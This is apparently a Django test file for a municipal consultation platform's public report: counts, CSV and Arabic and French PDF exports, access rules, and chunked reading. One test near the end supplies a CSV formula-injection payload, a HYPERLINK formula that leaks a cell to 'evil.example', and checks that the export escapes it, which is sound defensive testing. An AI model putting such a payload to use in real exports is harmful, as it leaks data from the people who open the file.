"""The consultation report: counts by kind, principle, axis, contributor, gender and age band (only where given),
answer and answer time; every contribution with its answer as a page, a CSV and a PDF in Arabic and French made in
the background. Public once the consultation has closed."""

import csv
import datetime
import io
import subprocess
import uuid

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from infitah.consultations import report
from infitah.consultations.models import ContributionKind, ReportDocument, ReportStatus, ResponseOutcome
from infitah.consultations.report_tasks import build_report_pdf, request_pdf
from tests.consultations.factories import ConsultationFactory, ContributionFactory, ResponseFactory, published_program
from tests.factories import AssociationFactory, UserFactory
from tests.programs.factories import AxisFactory, CommitmentFactory

pytestmark = pytest.mark.django_db

CLOSES = datetime.datetime(2023, 9, 15, 23, 59, tzinfo=datetime.UTC)
NOW = datetime.datetime(2023, 10, 1, 12, 0, tzinfo=datetime.UTC)


def row(**fields):
    base = {
        "kind": ContributionKind.COMMENT,
        "axis_key": None,
        "commitment_key": None,
        "principles": [],
        "contributor_kind": "citizen",
        "contributor_gender": "",
        "contributor_age_band": "",
        "is_hidden": False,
        "response__outcome": None,
        "response__answered_at": None,
    }
    return {**base, **fields}


INDEX = {
    "axes": {"axis-1": {"key": "axis-1", "title": {"fr": "Transparence"}}, "axis-2": {"key": "axis-2", "title": {}}},
    "commitments": {"c-1": {"key": "c-1", "title": {"fr": "Budget ouvert"}, "axis_key": "axis-1"}},
}
PRINCIPLES = {"c-1": ["transparency", "digitalisation"]}


def count(rows):
    return report.count_rows(rows, INDEX, PRINCIPLES, closes_at=CLOSES, response_days=30, now=NOW)


def test_a_comment_on_a_commitment_counts_for_its_axis_and_the_commitments_principles():
    counts = count([row(commitment_key="c-1")])
    assert counts.by_axis == {"axis-1": 1}
    assert counts.by_principle == {"transparency": 1, "digitalisation": 1}


def test_a_proposal_counts_for_its_own_principles_and_axis():
    counts = count([row(kind=ContributionKind.PROPOSAL, axis_key="axis-2", principles=["citizen_participation"])])
    assert counts.by_kind == {"proposal": 1}
    assert counts.by_axis == {"axis-2": 1}
    assert counts.by_principle == {"citizen_participation": 1}


def test_a_comment_on_the_whole_program_counts_for_no_axis_and_no_principle():
    counts = count([row()])
    assert counts.by_axis == {report.WHOLE_PROGRAM: 1}
    assert counts.by_principle == {}


@pytest.mark.parametrize(
    ("given", "by_gender", "by_age_band"),
    [
        ({}, {report.NOT_GIVEN: 1}, {report.NOT_GIVEN: 1}),
        ({"contributor_gender": "female"}, {"female": 1}, {report.NOT_GIVEN: 1}),
        ({"contributor_age_band": "18_24"}, {report.NOT_GIVEN: 1}, {"18_24": 1}),
        ({"contributor_gender": "male", "contributor_age_band": "65_plus"}, {"male": 1}, {"65_plus": 1}),
    ],
    ids=["nothing given", "gender only", "age band only", "both"],
)
def test_gender_and_age_band_are_counted_only_where_given(given, by_gender, by_age_band):
    counts = count([row(**given)])
    assert counts.by_gender == by_gender and counts.by_age_band == by_age_band


@pytest.mark.parametrize(
    ("answered_at", "hidden", "now", "state"),
    [
        (None, False, NOW, "pending"),  # due 15 October (30 days after the close), read on 1 October
        (None, False, datetime.datetime(2023, 10, 20, tzinfo=datetime.UTC), "overdue"),
        (datetime.datetime(2023, 10, 10, tzinfo=datetime.UTC), False, NOW, "answered"),
        (datetime.datetime(2023, 11, 20, tzinfo=datetime.UTC), False, NOW, "answered_late"),
        (None, True, NOW, report.HIDDEN),
    ],
    ids=["awaiting within the delay", "overdue", "answered on time", "answered late", "hidden"],
)
def test_the_answer_time_of_each_contribution(answered_at, hidden, now, state):
    outcome = ResponseOutcome.RETAINED if answered_at else None
    rows = [row(response__answered_at=answered_at, response__outcome=outcome, is_hidden=hidden)]
    counts = report.count_rows(rows, INDEX, PRINCIPLES, closes_at=CLOSES, response_days=30, now=now)
    assert counts.by_state == {state: 1}


def test_counts_add_up_for_a_mixed_consultation():
    rows = [
        row(commitment_key="c-1", contributor_gender="female", response__outcome="retained"),
        row(axis_key="axis-1", contributor_kind="association", response__outcome="merged"),
        row(kind=ContributionKind.PROPOSAL, principles=["transparency"], response__outcome="not_retained"),
        row(is_hidden=True),
    ]
    counts = count(rows)
    assert counts.total == 4 and counts.hidden == 1
    assert counts.by_kind == {"comment": 3, "proposal": 1}
    assert counts.by_contributor_kind == {"citizen": 3, "association": 1}
    assert counts.by_outcome == {"retained": 1, "merged": 1, "not_retained": 1, report.NOT_GIVEN: 1}
    assert sum(counts.by_axis.values()) == 4
    assert counts.by_principle == {"transparency": 2, "digitalisation": 1}


@pytest.fixture
def closed(people):
    program = published_program(people.commune_a, commitments=0)
    axis = AxisFactory(program=program, title={"ar": "الشفافية", "fr": "Transparence"})
    CommitmentFactory(
        axis=axis,
        title={"ar": "نشر الميزانية بصيغة مفتوحة", "fr": "Publier le budget ouvert"},
        principles=["transparency"],
    )
    from infitah.programs.versions import publish_version

    publish_version(program, None)
    consultation = ConsultationFactory(
        program=program,
        version=program.versions.order_by("-number").first(),
        opens_at=timezone.now() - datetime.timedelta(days=40),
        closes_at=timezone.now() - datetime.timedelta(days=10),
    )
    snapshot_axis = consultation.version.snapshot["axes"][-1]
    commitment_key = snapshot_axis["commitments"][0]["key"]
    woman = UserFactory(full_name="سلمى بناني", gender="female", age_band="25_34", email="salma@example.org")
    first = ContributionFactory(
        consultation=consultation, author=woman, commitment_key=commitment_key, body="نقترح نشر البيانات كل شهر"
    )
    ResponseFactory(contribution=first, outcome=ResponseOutcome.RETAINED, reason={"ar": "سيتم إدراجه", "fr": "Repris"})
    association = AssociationFactory(is_verified=True, name={"ar": "جمعية الأمل", "fr": "Association Al Amal"})
    ContributionFactory(
        consultation=consultation,
        association=association,
        kind=ContributionKind.PROPOSAL,
        title="منصة للعرائض",
        body="منصة رقمية",
        principles=["digitalisation"],
    )
    ContributionFactory(consultation=consultation, is_hidden=True, hidden_reason="شتائم", body="نص مسيء")
    return consultation


def test_the_report_page_is_public_after_the_close_and_shows_counts_and_answers(client, closed):
    page = client.get(f"/ar/consultations/{closed.pk}/report/")
    assert page.status_code == 200
    html = page.content.decode()
    hidden = closed.contributions.get(is_hidden=True)
    assert f'id="contribution-{hidden.pk}"' in html and "شتائم" in html, "a hidden contribution keeps its place"
    assert "نقترح نشر البيانات كل شهر" in html and "سيتم إدراجه" in html
    assert "نص مسيء" not in html, "hidden text stays out of the report"
    assert "salma@example.org" not in html
    assert "جمعية الأمل" in html


def test_before_the_close_only_the_collectivitys_staff_see_the_report(client, people, closed):
    closed.closes_at = timezone.now() + datetime.timedelta(days=3)
    closed.save()
    url = f"/en/consultations/{closed.pk}/report/"
    assert client.get(url).status_code == 404
    client.force_login(people.citizen)
    assert client.get(url).status_code == 404
    client.force_login(people.other_focal_point)
    assert client.get(url).status_code == 404
    client.force_login(people.information_officer)
    assert client.get(url).status_code == 200
    assert client.get(f"/en/consultations/{closed.pk}/report.csv").status_code == 200


def test_the_csv_opens_in_a_spreadsheet_with_the_arabic_intact_and_no_email(client, closed):
    response = client.get(f"/ar/consultations/{closed.pk}/report.csv")
    assert response["Content-Disposition"].startswith("attachment;")
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"))))
    assert len(rows) == 1 + 3
    first = rows[1]
    assert "نقترح نشر البيانات كل شهر" in first and "نشر الميزانية بصيغة مفتوحة" in first
    assert "salma@example.org" not in content and "نص مسيء" not in content
    french = b"".join(client.get(f"/fr/consultations/{closed.pk}/report.csv").streaming_content).decode("utf-8")
    assert "Publier le budget ouvert" in french


def test_the_page_costs_the_same_queries_for_few_or_many_contributions(client, closed):
    def queries():
        with CaptureQueriesContext(connection) as captured:
            assert client.get(f"/en/consultations/{closed.pk}/report/").status_code == 200
        return len(captured)

    few = queries()
    for n in range(60):
        contribution = ContributionFactory(consultation=closed, axis_key=uuid.uuid4() if n % 3 else None)
        if n % 2:
            ResponseFactory(contribution=contribution)
    assert queries() == few


def extract(pdf_bytes, tmp_path):
    path = tmp_path / "report.pdf"
    path.write_bytes(pdf_bytes)
    # poppler-utils' pdftotext (installed by .ci/run), on a file this test wrote.
    return subprocess.run(  # noqa: S603
        ["/usr/bin/pdftotext", str(path), "-"], capture_output=True, text=True, check=True
    ).stdout


@pytest.mark.parametrize(("language", "title"), [("ar", "الميزانية"), ("fr", "Publier le budget ouvert")])
def test_the_pdf_holds_the_commitment_title_in_arabic_and_in_french(closed, language, title, tmp_path):
    document = ReportDocument.objects.create(consultation=closed, language=language, fingerprint="x")
    build_report_pdf.call(document.pk)
    document.refresh_from_db()
    assert document.status == ReportStatus.DONE and document.progress == 100
    text = extract(document.file.read(), tmp_path)
    assert title in text
    assert "نص مسيء" not in text


def test_a_pdf_is_reused_while_nothing_changes_and_made_again_after_a_change(
    closed, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        first = request_pdf(closed, "ar")
    first.refresh_from_db()
    assert first.status == ReportStatus.DONE
    assert request_pdf(closed, "ar") == first
    ContributionFactory(consultation=closed)
    with django_capture_on_commit_callbacks(execute=True):
        second = request_pdf(closed, "ar")
    assert second != first
    second.refresh_from_db()
    assert second.status == ReportStatus.DONE


def test_a_failed_pdf_is_recorded_and_asked_again(closed, monkeypatch, django_capture_on_commit_callbacks):
    from infitah.consultations import report_tasks

    def broken(*args, **kwargs):
        raise RuntimeError("no fonts")

    monkeypatch.setattr(report_tasks, "render_pdf_parts", broken)
    with django_capture_on_commit_callbacks(execute=True):
        failed = request_pdf(closed, "fr")
    failed.refresh_from_db()
    assert failed.status == ReportStatus.FAILED and "no fonts" in failed.error
    monkeypatch.undo()
    with django_capture_on_commit_callbacks(execute=True):
        retried = request_pdf(closed, "fr")
    assert retried != failed


def test_the_pdf_page_shows_progress_then_the_download(client, closed, django_capture_on_commit_callbacks):
    url = f"/en/consultations/{closed.pk}/report/pdf/ar/"
    assert "Produce the report" in client.get(url).content.decode()
    queued = ReportDocument.objects.create(
        consultation=closed,
        language="ar",
        fingerprint=report.fingerprint(closed),
        status=ReportStatus.RUNNING,
        progress=40,
    )
    page = client.get(url).content.decode()
    assert 'http-equiv="refresh"' in page and 'value="40"' in page
    ReportDocument.objects.filter(pk=queued.pk).delete()
    with django_capture_on_commit_callbacks(execute=True):
        assert client.post(url).status_code == 302
    document = ReportDocument.objects.get(consultation=closed, language="ar")
    page = client.get(url).content.decode()
    download = f"/en/consultations/{closed.pk}/report/pdf/download/{document.pk}/"
    assert download in page and 'http-equiv="refresh"' not in page
    response = client.get(download)
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content).startswith(b"%PDF")


def test_only_arabic_and_french_pdfs(client, closed):
    assert client.get(f"/en/consultations/{closed.pk}/report/pdf/en/").status_code == 404


def test_a_job_left_running_by_a_lost_worker_is_asked_again(closed, django_capture_on_commit_callbacks):
    lost = ReportDocument.objects.create(
        consultation=closed,
        language="ar",
        fingerprint=report.fingerprint(closed),
        status=ReportStatus.RUNNING,
        progress=40,
    )
    assert request_pdf(closed, "ar") == lost, "a recent job is still being worked on"
    ReportDocument.objects.filter(pk=lost.pk).update(requested_at=timezone.now() - datetime.timedelta(hours=1))
    with django_capture_on_commit_callbacks(execute=True):
        again = request_pdf(closed, "ar")
    assert again != lost
    again.refresh_from_db()
    assert again.status == ReportStatus.DONE


def test_a_long_report_is_laid_out_in_parts_with_progress_and_holds_every_contribution(
    closed, tmp_path, monkeypatch, settings
):
    from infitah.core import documents

    settings.REPORT_PDF_LINES_PER_PART = 2
    for _ in range(5):
        ContributionFactory(consultation=closed, body="مساهمة اختبار")
    seen = []
    original = documents._write

    def recording(model, document_id, **fields):
        if "progress" in fields:
            seen.append(fields["progress"])
        original(model, document_id, **fields)

    monkeypatch.setattr(documents, "_write", recording)
    document = ReportDocument.objects.create(consultation=closed, language="ar", fingerprint="x")
    build_report_pdf.call(document.pk)
    document.refresh_from_db()
    assert document.status == ReportStatus.DONE
    assert seen == sorted(seen) and len(set(seen)) >= 4, seen
    # Every part's lines are in the one PDF (pdftotext reorders digits in right-to-left lines, so no numbers here).
    assert extract(document.file.read(), tmp_path).count("مساهمة اختبار") == 5


def test_the_axis_table_names_the_whole_program_once_and_every_axis():
    counts = count([row(), row(kind=ContributionKind.PROPOSAL), row(axis_key="axis-1")])
    labels = report.Labels(INDEX)
    (_title, axis_rows) = report.tables(counts, labels)[2]
    assert axis_rows == [(labels.whole, 2), ("Transparence", 1), (labels.axis("axis-2"), 0)]


def test_the_csv_writes_formulas_typed_by_participants_as_plain_text(client, closed):
    ContributionFactory(
        consultation=closed,
        author=UserFactory(full_name="@SUM(A1:A9)"),
        body='=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")',
    )
    content = b"".join(client.get(f"/fr/consultations/{closed.pk}/report.csv").streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")' in cells
    assert "'@SUM(A1:A9)" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_report_reads_every_contribution_once_in_finished_chunks_even_with_ties(monkeypatch):
    """The rows come CHUNK at a time by keyset (each chunk a finished query, no cursor left open while the report
    is laid out); contributions sharing a second straddle the chunks and still come once each, oldest first, and
    one arriving while the report is read is not in it."""
    monkeypatch.setattr(report, "CHUNK", 3)
    consultation = ConsultationFactory()
    contributions = [ContributionFactory(consultation=consultation) for _ in range(7)]
    same_second = timezone.now() - datetime.timedelta(hours=1)
    for index, contribution in enumerate(contributions):
        at = same_second if 1 <= index <= 5 else same_second + datetime.timedelta(minutes=index)
        type(contribution).objects.filter(pk=contribution.pk).update(created_at=at)
    expected = sorted(type(contributions[0]).objects.filter(consultation=consultation).values_list("created_at", "pk"))

    rows = report.report_rows(consultation)
    with CaptureQueriesContext(connection) as first_chunk:
        read = [next(rows)["pk"] for _ in range(3)]
    late = ContributionFactory(consultation=consultation)
    with CaptureQueriesContext(connection) as rest:
        read += [row["pk"] for row in rows]

    assert read == [pk for _created_at, pk in expected]
    assert late.pk not in read
    assert len(first_chunk) == 2  # the last id when the reading starts, then the first chunk
    assert len(rest) == 2  # two more chunks of at most three: 3 + 3 + 1
